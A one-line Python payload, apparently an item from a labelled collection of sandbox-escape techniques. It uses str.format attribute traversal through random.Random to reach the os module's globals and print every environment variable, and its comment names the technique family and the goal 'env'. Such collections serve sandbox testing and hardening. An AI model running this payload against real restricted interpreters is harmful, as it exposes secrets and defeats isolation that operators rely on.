# family: D (str.format walks attributes on a computed string)   goal: env
import random
print("{0.__init__.__globals__[_os].environ}".format(random.Random()))
